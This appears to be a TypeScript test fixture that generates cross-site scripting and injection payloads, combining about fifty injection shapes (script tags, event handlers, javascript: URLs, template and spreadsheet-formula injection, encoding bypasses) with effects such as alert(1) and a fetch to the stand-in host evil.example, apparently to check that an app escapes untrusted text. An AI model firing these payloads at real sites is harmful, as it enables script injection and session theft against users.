import { isWhole } from '../../src/shared/kernel/testing/test-size.ts';

const doing = ['window.hacked=1', 'alert(1)', 'fetch(`//evil.example`)', 'document.title=`hacked`'];

const shapes: ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<svg onload="${code}">`,
  (code) => `"><script>${code}</script>`,
  (code) => `'-${code}-'`,
  (code) => `</title><script>${code}</script>`,
  (code) => `</script><script>${code}</script>`,
  (code) => `<a href="javascript:${code}">x</a>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>">`,
  (code) => `<details open ontoggle="${code}">`,
  (code) => `<input autofocus onfocus="${code}">`,
  (code) => `<body onload="${code}">`,
  (code) => `<style>@import'//evil.example'</style><b onclick="${code}">`,
  (code) => `<math><mtext><script>${code}</script>`,
  (code) => `<video><source onerror="${code}">`,
  (code) => `\${${code}}`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `<%= ${code} %>`,
  (code) => `javascript:${code}//`,
  (code) => `" style="background:url(//evil.example)" onmouseover="${code}`,
  (code) => `<object data="data:text/html,<script>${code}</script>">`,
  (code) => `<embed src="javascript:${code}">`,
  (code) => `<form action="javascript:${code}"><button>x`,
  (code) => `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
  (code) => `<base href="//evil.example/"><b>${code}</b>`,
  (code) => `<x onclick="${code}" tabindex=1 autofocus>`,
  (code) => `<!--><img src=x onerror="${code}">-->`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<template><script>${code}</script></template>`,
  (code) => `<link rel=stylesheet href="//evil.example/${code}">`,
  (code) => `<select><option><script>${code}</script>`,
  (code) => `<marquee onstart="${code}">`,
  (code) => `<audio src=x onerror="${code}">`,
  (code) => `<table background="javascript:${code}">`,
  (code) => `<textarea autofocus onfocus="${code}">`,
  (code) => `\\u003cscript\\u003e${code}`,
  (code) => `&lt;script&gt;${code}&lt;/script&gt;`,
  (code) => `%3Cscript%3E${code}%3C/script%3E`,
  (code) => `<scr<script>ipt>${code}</scr</script>ipt>`,
  (code) => `<ScRiPt >${code}</ScRiPt >`,
  (code) => `<img/src=x/onerror=${code}>`,
  (code) => `<svg><animate onbegin="${code}">`,
  (code) => `<svg><use href="data:image/svg+xml,${code}">`,
  (code) => `<p style="animation:x" onanimationstart="${code}">`,
  (code) => `]]><script>${code}</script>`,
  (code) => `=cmd|'${code}'!A1`,
  (code) => `[x](javascript:${code})`,
  (code) => `<isindex action="javascript:${code}">`,
  (code) => `<div contenteditable onbeforeinput="${code}">`,
  (code) => `<dialog open onclose="${code}">`,
  (code) => `<portal src="javascript:${code}">`,
];

/**
 * Texts that would have an effect if they were interpreted as anything but text: 204 in `npm run test:all`, each shape once
 * in `npm test`.
 */
export const payloads = shapes.flatMap((shape, number) =>
  doing.filter((_, effect) => isWhole || effect === number % doing.length).map((code) => shape(code)),
);
